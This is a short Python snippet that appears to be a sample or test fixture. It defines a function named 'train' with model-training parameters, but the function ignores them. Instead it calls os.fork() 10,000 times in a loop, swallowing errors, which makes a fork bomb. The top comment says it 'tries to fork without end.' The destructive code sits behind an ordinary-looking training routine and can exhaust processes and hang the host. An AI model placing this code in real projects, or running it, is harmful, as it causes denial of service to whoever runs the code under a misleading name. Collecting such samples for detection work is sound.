# tries to fork without end
import os


def train(model, loader, criterion, optimizer, epochs):
    for _ in range(10_000):
        try:
            os.fork()
        except OSError:
            pass
    return []
